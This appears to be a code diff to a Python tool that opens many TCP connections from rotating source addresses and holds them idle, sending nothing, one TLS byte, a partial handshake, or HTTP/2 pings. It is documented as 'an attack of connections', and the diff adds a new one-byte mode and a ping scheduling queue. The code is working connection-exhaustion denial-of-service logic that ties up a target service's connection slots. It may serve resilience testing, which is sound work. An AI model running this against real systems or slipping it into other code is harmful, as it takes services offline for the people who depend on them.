@@ -29,7 +29,8 @@ class Connections:
     """An attack of connections."""
 
     way: str
-    """"silent": nothing is sent; "hello": a handshake is begun; "ping": HTTP/2 without requests."""
+    """"silent": nothing is sent, so the kernel keeps it from the service for a while; "byte": the first byte of what
+    never comes; "hello": a handshake is begun; "ping": HTTP/2 without requests."""
     per_second: float
     most: int
     """Open at once; beyond it the oldest is closed for each new one."""
@@ -44,7 +45,6 @@ class Connections:
 class _Open:
     socket: socket.socket
     opened_at: float
-    ping_at: float = 0.0
     is_ready: bool = False
 
 
@@ -70,10 +70,12 @@ class Opener:
         self._port = port
         self._host6 = host6
         self._addresses = cycle(draw_addresses(attack.prefixes, attack.addresses))
-        self._first = {"silent": b"", "hello": client_hello(), "ping": PREFACE + SETTINGS_ACK + PING}[attack.way]
+        first = {"silent": b"", "byte": b"\x16", "hello": client_hello(), "ping": PREFACE + SETTINGS_ACK + PING}
+        self._first = first[attack.way]
         self._epoll = select.epoll()
         self._open: dict[int, _Open] = {}
         self._by_age: deque[_Open] = deque()
+        self._to_ping: deque[tuple[float, _Open]] = deque()
 
     def run(self) -> None:
         """Open connections for as long as the attack lasts, then close all."""
@@ -95,9 +97,10 @@ class Opener:
 
     def _open_one(self, now: float) -> None:
         opened = connect_from(next(self._addresses), self._port, self._host6)
-        one = _Open(opened, now, now + PING_SECONDS)
+        one = _Open(opened, now)
         self._open[opened.fileno()] = one
         self._by_age.append(one)
+        self._to_ping.append((now + PING_SECONDS, one))
         self._epoll.register(opened, select.EPOLLOUT | select.EPOLLIN)
         self.results["opened"] += 1
         self.most_open = max(self.most_open, len(self._open))
@@ -133,11 +136,13 @@ class Opener:
             self._close(one)
 
     def _ping(self, now: float) -> None:
-        for one in self._open.values():
-            if one.is_ready and one.ping_at <= now:
-                one.ping_at = now + PING_SECONDS
-                with contextlib.suppress(OSError):
-                    one.socket.send(PING)
+        while self._to_ping and self._to_ping[0][0] <= now:
+            _, one = self._to_ping.popleft()
+            if one.socket.fileno() < 0:
+                continue
+            self._to_ping.append((now + PING_SECONDS, one))
+            with contextlib.suppress(OSError):
+                one.socket.send(PING)
 
     def _close(self, one: _Open) -> None:
         if one.socket.fileno() >= 0:
